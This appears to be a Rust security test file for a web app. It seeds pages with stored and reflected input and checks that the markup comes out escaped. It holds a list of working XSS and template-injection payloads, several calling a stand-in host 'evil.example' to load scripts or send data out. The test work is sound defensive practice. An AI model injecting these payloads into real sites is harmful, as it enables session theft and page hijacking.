//! Stored markup: hostile words in every place that a person or a service can write to, and every page that shows them.

use std::collections::BTreeMap;

use daiban::app::NewChannel;
use daiban_core::{
    Text,
    account::{Account, AccountState, Secrets},
    ask::AskKind,
    errand::Phase,
    household::{Household as _, OutboxRow, OutboxState, Role, Scope, User},
    id::AccountId,
    notice::Severity,
    secret::Secret,
    service::Service,
};
use serde_json::json;

use super::home::{Got, filled, send, usual, whole};
use crate::web_kit::{House, Seed, new_ask};

/// What a browser must only ever see as letters.
const HOSTILE: [&str; 18] = [
    "<script>alert('XQ1')</script>",
    "\"><img src=x onerror=alert(1) data-x=\"XQ2",
    "' onmouseover='alert(1)' x='XQ3",
    "javascript:alert('XQ4')",
    "JaVaScRiPt&colon;alert(1)//XQ5",
    "<svg/onload=alert(1)>XQ6",
    "</title><script src=//evil.example/XQ7></script>",
    "{{ 7*7 }}{% include \"base.html\" %}XQ8",
    "${7*7}#{7*7}<%= 7*7 %>XQ9",
    "]]><!--<script>-->XQ10",
    "\u{2028}\u{2029}<b>XQ11</b>",
    "\u{202e}XQ12\u{2066}admin\u{2069}",
    "&lt;script&gt;XQ13&#60;img&#62;",
    "</textarea></select></form><form action=//evil.example>XQ14",
    "<a href=\"data:text/html,x\">XQ15</a>",
    "<style>*{background:url(//evil.example/XQ16)}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example/XQ17>",
    "\" hx-get=\"//evil.example\" hx-trigger=\"load\" x=\"XQ18",
];

/// The elements that pages are made of; another one was written by somebody else.
const ELEMENTS: &str = "html head meta title link script body a main header nav ul ol li h1 h2 h3 h4 p span b small section \
    div form input button select option optgroup label textarea fieldset legend svg use rect path line circle g polyline \
    polygon text image img time dl dt dd table thead tbody tr th td caption details summary code pre kbd br hr footer aside \
    figure figcaption datalist template noscript blockquote strong em i s u del ins sub sup abbr bdi meter progress output article \
    symbol defs desc tspan colgroup col mark";

async fn hostile_house() -> (House, User, Vec<String>) {
    let house = House::new().await;
    let owner = house.add_user("\"><b>XQ0</b>", Role::Admin).await;
    house
        .add_user("<svg/onload=alert(1)>XQ6", Role::Member)
        .await;
    let actor = House::actor(&owner);
    let mut ids = Vec::new();
    for (n, hostile) in HOSTILE.iter().enumerate() {
        let short: String = hostile
            .chars()
            .filter(|c| !c.is_control())
            .take(64)
            .collect();
        let account = hostile_account(&house, &owner, n, hostile).await;
        ids.push(account.to_string());
        let _ = house
            .app
            .add_token(&actor, &owner.id, &short, Scope::Read)
            .await;
        let channel = NewChannel {
            kind: "webhook".to_owned(),
            name: short,
            settings: BTreeMap::from([("url".to_owned(), "https://hook.example.com/x".to_owned())]),
            secrets: BTreeMap::new(),
        };
        if let Ok(channel) = house.app.add_channel(&actor, channel).await {
            ids.push(channel.id.to_string());
        }
        let kinds = [
            AskKind::Captcha,
            AskKind::Qr,
            AskKind::Sms,
            AskKind::Approve,
            AskKind::Points,
        ];
        let ask = new_ask(
            kinds[n % kinds.len()],
            (hostile, hostile),
            (hostile, hostile),
            None,
        );
        let seed = hostile_errand(hostile, n).ask(ask);
        ids.push(
            house
                .add_errand(&owner.id, &account, seed)
                .await
                .to_string(),
        );
    }
    let asks = house.store.asks(None, None).await.unwrap();
    ids.extend(asks.iter().map(|ask| ask.id.to_string()));
    tell_over_channels(&house, &owner).await;
    (house, owner, ids)
}

async fn hostile_account(house: &House, owner: &User, n: usize, hostile: &str) -> AccountId {
    let service = Service::ALL[n % Service::ALL.len()];
    let account = Account {
        name: hostile.to_owned(),
        problem: Some(Text::new(hostile, hostile)),
        settings: ["plate", "base_url", "url", "phone", "car", "engine_number"]
            .map(|name| (name.to_owned(), hostile.to_owned()))
            .into(),
        ..house_account(house, owner, service, n)
    };
    let id = account.id.clone();
    let secrets: Secrets = [("token".to_owned(), Secret::from(hostile))].into();
    house.store.add_account(account, secrets).await.unwrap();
    id
}

fn house_account(house: &House, owner: &User, service: Service, n: usize) -> Account {
    Account {
        id: AccountId::new(house.now(), 900 + n as u64),
        user: owner.id.clone(),
        service,
        name: String::new(),
        state: AccountState::SignInLost,
        problem: None,
        settings: BTreeMap::new(),
        created_at: house.now(),
        signed_in_at: None,
        shared: false,
    }
}

/// Of every kind that has a page of its own, with everything a service may say.
fn hostile_errand(hostile: &str, n: usize) -> Seed {
    let kinds = [
        "permit.keep",
        "rail.ticket",
        "violation.watch",
        "hospital.visit",
        "vehicle.watch",
    ];
    let wishes = json!({
        "plates": [hostile], "zone": hostile, "from": hostile, "to": hostile, "dates": [hostile], "trains": [hostile],
        "passengers": [hostile], "seats": [hostile], "departments": [hostile], "doctor": hostile, "note": hostile,
        "patient": hostile, "car": hostile, "prefer": [hostile],
    });
    let says = json!({
        "text": hostile, "title": hostile, "name": hostile, "reason": hostile, "plate": hostile, "place": hostile,
        "list": [{ "name": hostile, "text": hostile }], "order_no": hostile, "pay_url": hostile, "url": hostile,
        "vehicles": [{ "plate": hostile, "why_not": hostile, "records": [{ "id": hostile, "reason": hostile, "zone": hostile, "state": hostile }] }],
        "violations": [{ "id": hostile, "place": hostile, "action": hostile, "city": hostile, "at": "2026-11-18T08:42:00+08:00", "state": "open" }],
    });
    let mut seed = Seed::new(
        kinds[n % kinds.len()],
        wishes,
        Phase::NeedsYou,
        hostile,
        hostile,
    )
    .outcome(says.clone())
    .notice((hostile, hostile), (hostile, hostile), Severity::Urgent)
    .problem((hostile, hostile), (hostile, hostile), Severity::Urgent);
    for fact in [
        "status",
        "coverage",
        "order",
        "tickets",
        "check/冀R0D001",
        "booking",
        "reading",
        "standby",
        hostile,
    ] {
        seed = seed.fact(fact, says.clone());
    }
    seed
}

/// What providers of channels answered.
async fn tell_over_channels(house: &House, owner: &User) {
    let channels = house.store.channels(None).await.unwrap();
    let notices = house.store.notices(Some(&owner.id), 99).await.unwrap();
    for (n, notice) in notices.iter().enumerate() {
        let row = OutboxRow {
            id: format!("o{n}"),
            channel: channels[n % channels.len()].id.clone(),
            notice: notice.id.clone(),
            state: OutboxState::Failed,
            attempts: 3,
            answer: Some(HOSTILE[n % HOSTILE.len()].to_owned()),
            next_at: None,
        };
        house.store.spread(&notice.id, vec![row]).await.unwrap();
    }
}

/// Reads a page as a browser would: nothing but elements, attributes and addresses of ours.
fn check(got: &Got, path: &str) {
    let mut rest = got.text.as_str();
    while let Some((_, after)) = rest.split_once('<') {
        if let Some(comment) = after.strip_prefix("!--") {
            panic!(
                "{path}: <!--{}",
                comment.chars().take(60).collect::<String>()
            );
        }
        let (tag, after) = end_of_tag(after, path);
        let bare = tag.trim_start_matches('/').trim_end_matches('/');
        let name = bare.split([' ', '\n']).next().unwrap_or_default();
        let known =
            name == "!doctype" || ELEMENTS.split_whitespace().any(|element| element == name);
        assert!(known, "{path}: <{tag}>");
        for (attribute, value) in attributes(bare) {
            check_attribute(name, &attribute, &value, path);
        }
        if name == "script" && !tag.starts_with('/') {
            assert!(tag.contains("src=\"/assets/"), "{path}: <{tag}>");
            assert!(
                after.starts_with("</script>"),
                "{path}: a script with content"
            );
        }
        rest = after;
    }
}

fn check_attribute(element: &str, attribute: &str, value: &str, path: &str) {
    let place = format!("{path}: <{element} {attribute}={value:?}>");
    assert!(
        !attribute.starts_with("on") && attribute != "style" && attribute != "srcdoc",
        "{place}"
    );
    let leads_away = match attribute {
        "href" | "src" | "action" | "formaction" | "poster" | "data" => {
            let picture = element == "img" && value.starts_with("data:image/");
            let call = element == "a" && value.starts_with("tel:");
            let local = (value.starts_with('/') && !value.starts_with("//"))
                || value.starts_with('#')
                || value.is_empty();
            let link = element == "a" && value.starts_with("https://");
            !(local || picture || call || link)
        }
        name if name.starts_with("hx-") && !value.is_empty() => value.contains("//"),
        _ => false,
    };
    assert!(!leads_away, "{place}");
}

/// The inside of a tag up to its end, quotes respected, and what comes after.
fn end_of_tag<'t>(text: &'t str, path: &str) -> (&'t str, &'t str) {
    let mut quote = None;
    for (at, letter) in text.char_indices() {
        match (quote, letter) {
            (None, '"' | '\'') => quote = Some(letter),
            (Some(open), letter) if open == letter => quote = None,
            (None, '>') => return (&text[..at], &text[at + 1..]),
            (None, '<') => panic!("{path}: a tag in a tag: {}", &text[..at]),
            _ => {}
        }
    }
    panic!("{path}: a tag without an end")
}

/// Names and values as a browser takes them, entities read back.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut all = Vec::new();
    let mut rest = tag.split_once([' ', '\n']).map_or("", |(_, rest)| rest);
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            return all;
        }
        let end = rest.find(['=', ' ', '\n']).unwrap_or(rest.len());
        let name = rest[..end].to_ascii_lowercase();
        rest = &rest[end..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let quote = after.chars().next().unwrap_or(' ');
            assert!(matches!(quote, '"' | '\''), "a value without quotes: {tag}");
            let (inner, after) = after[1..].split_once(quote).unwrap();
            value = inner
                .replace("&#58;", ":")
                .replace("&#47;", "/")
                .replace("&#34;", "\"")
                .replace("&quot;", "\"")
                .replace("&#39;", "'")
                .replace("&lt;", "<")
                .replace("&#60;", "<")
                .replace("&amp;", "&");
            rest = after;
        }
        all.push((name, value));
    }
}

#[tokio::test]
async fn nothing_that_was_written_becomes_part_of_a_page() {
    let (house, owner, ids) = hostile_house().await;
    let router = whole(&house, usual());
    let cookie = house.browser(&owner).await.cookie.unwrap();
    let mut shown = std::collections::BTreeSet::new();
    let mut pages = 0;
    // News go on for ever, and have no words in them.
    let pages_of = daiban::web::paths().into_iter();
    for path in pages_of.filter(|path| *path != "/live") {
        let fills: Vec<&str> = match path.contains('{') {
            true => ids
                .iter()
                .map(String::as_str)
                .chain(["rail.ticket", "permit", "webhook", "2026-11"])
                .collect(),
            false => vec![""],
        };
        for fill in fills {
            for lang in ["zh-CN", "en"] {
                let path = filled(path, fill);
                let headers = [("cookie", cookie.as_str()), ("accept-language", lang)];
                let got = send(&router, "GET", &path, &headers).await.unwrap();
                let is_page = got
                    .headers
                    .get("content-type")
                    .is_some_and(|kind| kind.as_bytes().starts_with(b"text/html"));
                if !is_page {
                    continue;
                }
                assert!(
                    got.headers.contains_key("content-security-policy"),
                    "{path}"
                );
                check(&got, &path);
                for (n, _) in HOSTILE.iter().enumerate() {
                    if got.text.contains(&format!("XQ{}", n + 1)) {
                        shown.insert(n + 1);
                    }
                }
                pages += 1;
            }
        }
    }
    // What is reflected: the address, the query, the form.
    for hostile in HOSTILE {
        let encoded: String = form_urlencoded::byte_serialize(hostile.as_bytes()).collect();
        for path in [
            "/signin?next=",
            "/rail?from=",
            "/rail/stations?q=",
            "/hospital?q=",
            "/errands/",
            "/nothing/",
            "/settings/audit?before=",
            "/?lang=",
        ] {
            let path = format!("{path}{encoded}");
            let headers = [("cookie", cookie.as_str())];
            let got = send(&router, "GET", &path, &headers).await.unwrap();
            if got.text.contains('<') {
                check(&got, &path);
                pages += 1;
            }
        }
    }
    assert_eq!(
        shown.len(),
        HOSTILE.len(),
        "all of them are shown somewhere: {shown:?}"
    );
    eprintln!("{pages} pages with hostile words in them were read");
}

/// The reader itself sees what a browser would run.
#[test]
fn the_reader_sees_what_was_let_through() {
    let read = |text: &str| {
        let got = Got {
            status: 200,
            headers: Default::default(),
            text: text.to_owned(),
        };
        std::panic::catch_unwind(|| check(&got, "a page")).is_ok()
    };
    assert!(read(
        "<p class=\"x\">1 &lt; 2</p><a href=\"/errands\">x</a>"
    ));
    for bad in [
        "<p>x<script>alert(1)</script></p>",
        "<p>x<script src=\"//evil.example\"></script></p>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<img src=\"https://evil.example/x\">",
        "<b style=\"x\">",
        "<iframe src=\"/x\"></iframe>",
        "<p><!-- x --></p>",
        "<form action=\"https://evil.example\">",
        "<p hx-get=\"//evil.example\">",
        "<p title=\"<b>\" <b>",
    ] {
        assert!(!read(bad), "{bad}");
    }
}

/// `|safe` switches escaping off: only for markup that daiban draws itself.
#[test]
fn only_our_own_drawings_are_not_escaped() {
    // Icons by a name from the source, and the bar of a limit, which is made of numbers; see each one's docs.
    let drawn = ["s.icon(", "s.small_icon(", "l.svg"];
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    let mut others = Vec::new();
    for path in files_below(&folder) {
        let text = std::fs::read_to_string(&path).unwrap();
        for (at, _) in text.match_indices("|safe") {
            let from = text[..at].rfind("{{").unwrap();
            let expression = text[from + 2..at].trim();
            if !drawn.iter().any(|known| expression.starts_with(known)) {
                let name = path.file_name().unwrap().to_string_lossy().into_owned();
                others.push(format!("{name}: {expression}"));
            }
        }
        for off in ["{% autoescape", "|unsafe", "| safe", "{%- raw", "{% raw"] {
            assert!(!text.contains(off), "{}: {off}", path.display());
        }
    }
    others.sort();
    assert_eq!(
        others, KNOWN_DRAWINGS,
        "look at where the markup comes from before adding it here"
    );
}

/// Markup that Rust draws with escaping of its own.
const KNOWN_DRAWINGS: [&str; 0] = [];

/// Every file in a folder and in those below it.
fn files_below(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        match path.is_dir() {
            true => found.extend(files_below(&path)),
            false => found.push(path),
        }
    }
    found
}
